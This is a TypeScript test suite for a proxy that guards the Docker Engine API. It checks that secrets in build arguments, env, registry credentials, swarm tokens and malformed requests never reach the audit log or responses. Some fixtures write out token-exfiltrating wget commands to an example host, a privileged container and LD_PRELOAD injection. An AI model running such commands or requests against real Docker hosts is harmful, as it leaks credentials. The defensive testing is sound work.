import t from 'tap';
import { talk } from '../support/raw.js';
import { file, tar } from '../support/tar.js';
import { startGuarded } from './guarded.js';

// Values of environment variables and build arguments, credentials and tokens never stand in the audit trail, in a denial,
// or in a metric: whether the call passes, is denied, or cannot be read at all.

const SECRET = 'zqSeCrEtqz';
const b64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const AUTH = { username: 'u', password: SECRET, serveraddress: 'registry.example' };
const encode = (value: unknown): string => encodeURIComponent(JSON.stringify(value));

interface Sent {
  readonly line: string;
  readonly headers?: readonly string[];
  readonly body?: string | Buffer;
}

const json = (line: string, body: object | string): Sent => ({
  line,
  headers: ['Content-Type: application/json'],
  body: typeof body === 'string' ? body : JSON.stringify(body),
});
const build = (query: string, dockerfile = 'FROM alpine\n'): Sent => ({
  line: `POST /v1.41/build?${query}`,
  headers: ['Content-Type: application/x-tar'],
  body: tar(file('Dockerfile', dockerfile)),
});
const ARGS = encode({ TOKEN: SECRET, null: null });

const SENDS: Readonly<Record<string, Sent>> = {
  'build arguments': build(`t=x&buildargs=${ARGS}`),
  'build arguments, then a bad escape': build(`buildargs=${ARGS}&t=%zz`),
  'a bad escape in build arguments': build(`buildargs=%7B%22A%22:%22${SECRET}%zz%22%7D`),
  'a separator in build arguments': build(`buildargs=%7B%22A%22:%22${SECRET};${SECRET}%22%7D`),
  'build arguments that are no JSON': build(`buildargs=${SECRET}`),
  'build arguments that are no map': build(`buildargs=${encode([SECRET])}`),
  'build arguments of another type': build(`buildargs=${encode({ A: [SECRET] })}`),
  'build arguments that end too early': build(`buildargs=${encode({ A: SECRET }).slice(0, -3)}`),
  'build arguments with an ampersand': build(`buildargs=%7B%22A%22:%22x&${SECRET}%22%7D`),
  'an ampersand, and more': build(`buildargs=%7B%22A%22:%22x&y${SECRET}=1%22%7D&t=%zz`),
  'two build arguments of one name': build(`buildargs=%7B%22A%22:%22${SECRET}%22,%22A%22:%221%22%7D`),
  'build arguments twice': build(`buildargs=${ARGS}&buildargs=${ARGS}`),
  'in another version': { line: `POST /v9.99/build?buildargs=${ARGS}` },
  'in a version that is none': { line: `POST /v1.41.0/build?buildargs=${ARGS}` },
  'of an unknown operation': { line: `POST /v1.41/builds?buildargs=${ARGS}` },
  'by another method': { line: `PATCH /v1.41/build?buildargs=${ARGS}` },
  'with a question mark that is encoded': { line: `POST /v1.41/build%3Fbuildargs=${ARGS}` },
  'without a question mark': { line: `POST /v1.41/build&buildargs=${ARGS}` },
  'behind a fragment': { line: `POST /v1.41/build#buildargs=${ARGS}` },
  'in a target that is too long': { line: `POST /v1.41/build?buildargs=${ARGS}&t=${'x'.repeat(20_000)}` },
  'in a target with a blank': { line: `POST /v1.41/build?buildargs=${ARGS} x` },
  'in an absolute target': { line: `POST http://u:${SECRET}@docker/v1.41/build?buildargs=${ARGS}` },
  'of CONNECT': { line: `CONNECT u:${SECRET}@host:1/?buildargs=${ARGS}` },
  'a download with a build argument': build(
    `buildargs=${ARGS}`,
    'FROM alpine\nARG TOKEN\nRUN wget -q https://host.example/x?t=$TOKEN\n',
  ),
  'ADD with a build argument': build(
    `buildargs=${ARGS}`,
    'FROM alpine\nARG TOKEN\nADD https://u:$TOKEN@host.example/$TOKEN /x\n',
  ),
  'labels of a build': build(`labels=${encode({ a: 'x' })}&buildargs=${ARGS}&q=maybe`),
  'a number that is none': { line: `GET /v1.41/containers/json?limit=${SECRET}` },
  'env of a container': json('POST /v1.41/containers/create', {
    Image: 'alpine',
    Env: [`TOKEN=${SECRET}`, `OTHER=x=${SECRET}`],
    HostConfig: { Privileged: true },
  }),
  'env, and a command that uses it': json('POST /v1.41/containers/create', {
    Image: 'alpine',
    Env: [`TOKEN=${SECRET}`],
    Cmd: ['sh', '-c', 'wget https://host.example/x?t=$TOKEN'],
  }),
  'env that is rewritten': json('POST /v1.41/containers/create?name=rewrite', {
    Image: 'alpine',
    Env: [`TOKEN=${SECRET}`, `LD_PRELOAD=${SECRET}`, `HTTP_PROXY=http://u:${SECRET}@p.example`],
  }),
  'env of a wrong type': json('POST /v1.41/containers/create', { Image: 'alpine', Env: { A: SECRET } }),
  'env in JSON that breaks off': json('POST /v1.41/containers/create', `{"Env":["TOKEN=${SECRET}`),
  'env in JSON with two readings': json(
    'POST /v1.41/containers/create',
    `{"Env":["A=${SECRET}"],"env":["A=${SECRET}"]}`,
  ),
  'env with a character that JSON has not': json(
    'POST /v1.41/containers/create',
    `{"Env":["${SECRET}\x01"]}`,
  ),
  'env behind JSON': json('POST /v1.41/containers/create', `{}${SECRET}`),
  'JSON that is another word': json('POST /v1.41/containers/create', `{"Image":${SECRET}}`),
  'env of an exec': json('POST /v1.41/containers/c/exec', { Cmd: ['id'], Env: [`TOKEN=${SECRET}`] }),
  'env of a commit': json(
    `POST /v1.41/commit?container=c&changes=${encodeURIComponent(`ENV TOKEN=${SECRET}`)}`,
    {
      Env: [`TOKEN=${SECRET}`],
    },
  ),
  'env of an import': {
    line: `POST /v1.41/images/create?fromSrc=-&changes=${encodeURIComponent(`ENV TOKEN ${SECRET}`)}`,
    headers: ['Content-Type: application/x-tar'],
    body: 'x',
  },
  'env of a service': json('POST /v1.41/services/create', {
    TaskTemplate: { ContainerSpec: { Image: 'alpine', Env: [`TOKEN=${SECRET}`] } },
  }),
  'a secret': json('POST /v1.41/secrets/create', { Name: 'x', Data: Buffer.from(SECRET).toString('base64') }),
  'a secret that is no base64': json('POST /v1.41/secrets/create', { Name: 'x', Data: `*${SECRET}*` }),
  'a config': json('POST /v1.41/configs/create', { Name: 'x', Data: Buffer.from(SECRET).toString('base64') }),
  'credentials of a login': json('POST /v1.41/auth', AUTH),
  'an identity token of a login': json('POST /v1.41/auth', {
    identitytoken: SECRET,
    serveraddress: 'r.example',
  }),
  'credentials of a pull': {
    line: 'POST /v1.41/images/create?fromImage=registry.example/x',
    headers: [`X-Registry-Auth: ${b64(AUTH)}`],
  },
  'credentials that are no base64': {
    line: 'POST /v1.41/images/create?fromImage=registry.example/x',
    headers: [`X-Registry-Auth: ${SECRET}!`],
  },
  'credentials that are no JSON': {
    line: 'POST /v1.41/images/create?fromImage=registry.example/x',
    headers: [`X-Registry-Auth: ${Buffer.from(`{"password":${SECRET}`).toString('base64url')}`],
  },
  'credentials twice': {
    line: 'POST /v1.41/images/create?fromImage=registry.example/x',
    headers: [`X-Registry-Auth: ${b64(AUTH)}`, `X-Registry-Auth: ${b64(AUTH)}`],
  },
  'credentials of a build': {
    ...build('t=x'),
    headers: ['Content-Type: application/x-tar', `X-Registry-Config: ${b64({ 'r.example': AUTH })}`],
  },
  'a bearer token': { line: 'GET /v1.41/containers/json', headers: [`Authorization: Bearer ${SECRET}`] },
  'basic credentials': { line: 'GET /v1.41/containers/json', headers: [`Authorization: Basic ${SECRET}`] },
  'a join token': json('POST /v1.41/swarm/join', { JoinToken: SECRET, RemoteAddrs: ['10.0.0.1'] }),
  'an unlock key': json('POST /v1.41/swarm/unlock', { UnlockKey: SECRET }),
  'the key of a CA': json('POST /v1.41/swarm/init', { Spec: { CAConfig: { SigningCAKey: SECRET } } }),
  'options of a volume': json('POST /v1.41/volumes/create', {
    Name: 'x',
    DriverOpts: { type: 'cifs', device: '//h/x', o: `username=u,password=${SECRET}` },
  }),
  'options of a logger': json('POST /v1.41/containers/create', {
    Image: 'alpine',
    HostConfig: { LogConfig: { Type: 'splunk', Config: { 'splunk-token': SECRET } } },
  }),
  'options of a network': json('POST /v1.41/networks/create', {
    Name: 'x',
    Options: { 'com.example.token': SECRET },
    IPAM: { Options: { password: SECRET } },
  }),
  'an unencoded ampersand in a URL': {
    line: `POST /v1.41/build?remote=https://h.example/x?a=b&sig=${SECRET}`,
  },
  'a remote context': {
    line: `POST /v1.41/build?remote=${encodeURIComponent(`https://u:${SECRET}@h.example/x`)}`,
  },
  'a plugin': json('POST /v1.41/plugins/x/set', [`TOKEN=${SECRET}`]),
  'a header that is no ASCII': { line: 'GET /v1.41/info', headers: [`X-Registry-Auth: ${SECRET}\xff`] },
  'no HTTP at all': { line: `${SECRET}\x00` },
};

const RULES: Readonly<Record<string, object>> = {
  'everything passes': { permit: ['*'] },
  'hazards are denied': {},
  rewritten: {
    permit: ['*'],
    rewrite: { remove: ['/Env'], set: { '/Labels/x': 'y' } },
  },
};

for (const [name, rule] of Object.entries(RULES)) {
  await t.test(name, async (t) => {
    const guarded = await startGuarded({
      policy: {
        rules: [
          {
            id: 'all',
            sources: ['*'],
            operations: name === 'rewritten' ? ['ContainerCreate'] : ['*'],
            ...rule,
          },
        ],
      },
    });
    t.teardown(() => guarded.close());
    for (const [what, { line, headers = [], body }] of Object.entries(SENDS)) {
      const before = guarded.auditText().length;
      const length = body === undefined ? [] : [`Content-Length: ${body.length}`];
      const head = [
        `${line} HTTP/1.1`,
        'Host: docker',
        ...headers,
        ...length,
        'Connection: close',
        '',
        '',
      ].join('\r\n');
      const { text } = await talk(guarded.tcp, [head, ...(body === undefined ? [] : [body])]);
      await new Promise((resolve) => setTimeout(resolve, 10));
      const written = guarded.auditText().slice(before);
      for (const [where, output] of [
        ['the record', written],
        ['the answer', text],
      ] as const) {
        const at = output.toLowerCase().indexOf(SECRET.toLowerCase());
        t.equal(at < 0 ? '' : output.slice(Math.max(0, at - 120), at + 40), '', `${what}: ${where}`);
      }
      t.not(written, '', `${what}: is on record`);
    }
  });
}
